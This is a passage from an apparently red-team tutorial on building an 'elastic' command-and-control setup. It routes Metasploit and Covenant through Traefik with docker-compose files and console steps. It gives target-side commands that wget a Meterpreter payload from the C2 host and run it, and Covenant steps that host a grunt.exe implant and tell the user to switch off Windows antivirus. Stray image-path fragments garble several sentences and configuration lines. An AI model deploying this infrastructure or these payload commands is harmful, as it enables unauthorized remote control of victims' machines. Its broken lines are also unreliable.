      - "traefik.http.routers.msfDeliveryTcp.rule=Host(`$C2EXTIP`) && PathPrefix(`/delivery_tcp`)"
      - "traefi[email protected]"
      - "traefik.http.routers.msfDeliveryTcp.entrypoints=web-ep"
      - "traefik.http.services.msfDeliveryTcp.loadbalancer.server.port=8081"
      # HTTP Payload Handler host/handler to msf:4444
      - "traefik.http.routers.msfHandler.rule=Host(`$C2EXTIP`) && PathPrefix(`/handler`)"
      - "[email protected]"
      - "traefik.http.routers.msfHandler.entrypoints=web-ep"
      - "traefik.http.services.msfHandler.loadbalancer.server.port=4444"
      # TCPPayload Handler host:8888 to msf:4445
      - "traefik.tcp.routers.msfHandlerTcp.rule=HostSNI(`*`)"
      - "tra[email protected]"
      - "traefik.tcp.services.msfHandlerTcp.loadbalancer.server.port=4445"
      - "traefik.tcp.routers.msfHandlerTcp.entrypoints=tcp-ep"

Running the initial delivery chain

The docker-compose.yml file should now be ready for our first run. Double check you’re in the directory with the docker-compose yaml file.To start the stack, run:

$ docker-compose up

Run the stack in the foreground to view the Traefik logs. Use -d to run the stack as a daemon.

You can stop the running stack by hitting CTRL+C.
If that fails for some reason, you can run docker-compose down.

 In another shell on your Docker host, run:

$ docker exec -it msf /bin/bash
bash-5.0> ./msfconsole -r double_delivery.rc

You should now have a shell to your C2, with both delivery servers and associated handlers running.

In the output, you’ll see the useful command to run directly on your target, that will fetch and execute the Meterpreter payload.
In our case, you should see both the reverse_http and reverse_tcp commands, fetched using wget.

We’re going to change that final command to run on the target, remove the SRVPORT from the final URL.

 On the target machine, run:

$  wget -qO httpPayload --no-check-certificate http://YOUR-C2-EXT-IP/delivery_http; chmod +x httpPayload; ./httpPayload&
$  wget -qO tcpPayload --no-check-certificate http://YOUR-C2-EXT-IP/delivery_tcp; chmod +x tcpPayload; ./tcpPayload&

You should now see your payloads calling home through Traefik.

Both HTTP and TCP Meterpreter delivered, and calling home - through Traefik

Tip: You can quickly spawn a dedicated Linux target to run your payloads using Docker. On your host, rundocker run -it alpine sh to get a quick shell to a small new Linux container.
Your host might need to match the targeted architecture.

Monitoring the C2 routing in the Traefik web interface

If you recall earlier, we activated Traefik’s Web UI, with a route and a simple authentication using test:test.

 Head to http://YOUR-C2-EXT-IP/dashboard/# to monitor all the live routes.

Covenant C2 Setup

Now that we’ve successfully deployed our stack, let’s deploy our second C2.
To demonstrate Traefik’s dynamic routing, we’re going to build and deploy Covenant as a container.

Let’s first build the Covenant container. Unlike the Metasploit container, there is no official “ready-made” built container available on Docker Hub, so we’ll build it ourselves.

Make sure you use a recursive clone, as it uses submodules.

 Still in the edgy-c2/ working directory, run:$ git clone --recurse-submodules https://github.com/cobbr/Covenant
$ docker build -t covenant Covenant/Covenant # Give it a few minutes


We’re going to create a separate docker-compose yaml file that is meant to be used on the side, dedicated to bringing the built Covenant container into our existing C2 infrastructure.

We could use the build directive directly in our yaml file, but that would rebuild at launch. So we’re building the container just once first, and spawning it second.

Since Covenant does not currently allow us to disable HTTPS for the Web UI, we’ll have to use SSL passthrough on the TCP layer directly, instead of using Traefik’s HTTP router.
Fortunately, Traefik supports TCP routing as of version 2.
That is why the tls-ep entry point is currently configured as a TCProuter in Traefik’s configuration.

We’re adding three routes to the existing infrastructure:

  • tls-ep will now route to Covenant’s web interface.
  • web-ep/cov_delivery will route to Covenant’s payload delivery web server.
  • web-ep/cov_handler will route to Covenant’s payload handler.

Finally, we’re asking Docker to hook the spawned service to the edgy-c2_default network generated by our previous docker-compose execution.

 Open a new docker-compose file dedicated to Covenant:

$ nano covenant-docker-compose.yml

 Copy the following, save and exit:

version: "3.7"image: "covenant"
    container_name: "covenant"
      - "traefik.enable=true"
      # Web interface - host:443 to covenant:7443
      - "traefik.tcp.routers.covenantUi.rule=HostSNI(`*`)"
      - "[email protected]"
      - "traefik.tcp.services.covenantUi.loadbalancer.server.port=7443"
      - "traefik.tcp.routers.covenantUi.entrypoints=tls-ep"
      # HTTP Delivery - host/cov_delivery to covenant:80
      - "traefik.http.routers.covenantDelivery.rule=Host(`$C2EXTIP`) && PathPrefix(`/cov_delivery`)"
      - "traefik.ht[email protected]"
      - "traefik.http.routers.covenantDelivery.entrypoints=web-ep"- "traefik.http.services.covenantDelivery.loadbalancer.server.port=80"
      # HTTP Payload Handler - host/cov_handler to covenant:80
      - "traefik.http.routers.covenantHandler.rule=Host(`$C2EXTIP`) && PathPrefix(`/cov_handler`)"
      - "traefik.[email protected]"
      - "traefik.http.routers.covenantHandler.entrypoints=web-ep"
      - "traefik.http.services.covenantHandler.loadbalancer.server.port=80"
      name: edgy-c2_default

 Start our new service using:

$ docker-compose -f covenant-docker-compose.yml up

You should see Traefik’s logs picking up the new service. You can also check out your new routes and services by refreshing the Traefik web interface.

Running the second delivery chain

Head over to Covenant’s web interface, located at https://YOUR-C2-EXTERNAL-IP/. Accept the unsigned certificate, fill out the username and password for the admin account.

 Here’s the configuration summary if you want to breeze through the interface:

  • New Listener profile: add our routed payload session URI
  • New Listener with custom profile
  • New HTTP Binary Launcher
  • Enable hosting of generated Grunt with our routed payload delivery URI
  • Fetch payload on target using routed delivery URI
  • Execute

 Here are the detailed steps:

  1. Create a new Listener profile.Step 1^

  1. Select and edit the CustomHttpProfile.
    • Give it a new name
    • Replace or add the /cov_handler URI to the HttpUrls
      • example: /cov_handler/index.html?page={GUID}&v=1
    • To save, use the blue “Edit” button at the bottom of the page

Step 2^

  1. Create a new Listener using the new profile.
    • Replace the ConnectAddress with your C2’s IP
    • Disable SSL
    •Launch

Step 3^

  1. Create a new Binary Launcher.
    • Select the Listener profile we created
    • Select the GruntHTTP template
    • Disable everything Cert for our test
    • Generate

Step 4^

  1. Still in the Binary Launcher menu.
    • Go to the Host tab
    • Enter /cov_delivery/grunt.exe in the URL field
    • Select the blue “Host” button

Step 5^

  1. Switch to your Windows target.
    • Download binary from http://YOUR-EXT-C2-IP/cov_delivery/grunt.exe
    • Make sure Windows Virus & Threat protections are all off, as Windows flags the default Covenant binaries
    • Launch binary


You should now see your Grunt calling back home through the route we configured, and available to interact within the Grunts menu.
Use CTRL+C or docker-compose -f covenant-docker-compose.yml down to stop the Covenant C2.

  Well done! You now have a fully functional elastic C2 infrastructure!

Now’s the time to take a break, you’ve earned it.
Take a minute to contemplate your success, and the new paths you have opened to your upcoming adventures.I hope you had a good time.
If you enjoyed this post, you can follow me on Twitter to stay updated.





Related subjects we have not covered in this post, for those who want to go further down the rabbit-hole :

  • Using HTTPS with handlers and web interfaces behind Traefik
  • Using Let’s Encrypt automation
  • Persistent data with shared volumes
  • Traefik metrics to dashboards
  • Payload delivery with additional rules (target platform, payload keying)
  • Load balancing &scaling
  • Expanding the infrastructure with Docker swarm or AWS Beanstalk
  • Routing evasion techniques